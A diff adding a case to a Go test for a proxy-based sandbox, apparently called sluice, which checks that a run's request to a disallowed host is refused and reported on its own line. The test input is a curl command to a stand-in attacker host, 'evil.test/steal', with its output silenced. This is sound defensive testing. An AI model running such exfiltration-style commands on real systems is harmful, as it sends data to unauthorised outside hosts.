@@ -114,6 +114,13 @@ func TestNetworkedRunThroughProxy(t *testing.T) {
 				t.Errorf("network %+v, want evil.test refused", n)
 			}
 
+			// The refusal is a line of its own after output that did
+			// not end one.
+			o = f.runNet(t, "curl -fs http://evil.test/steal >/dev/null 2>&1; printf 'fetching...'; exit 1", "registry.test")
+			if want := "sluice: the run's proxy refused evil.test:80: not in this run's hosts"; sluiceNote(o.log) != want {
+				t.Errorf("last line %q, want %q:\n%q", sluiceNote(o.log), want, o.log)
+			}
+
 			// Why a host was let through is the verdict's word for it,
 			// and a policy's network_deny wins over the verdict's hosts.
 			o = f.run(t, "curl -fsS http://registry.test/pkg; curl -fsS http://other.test/x", nil, Options{Profile: "networked",
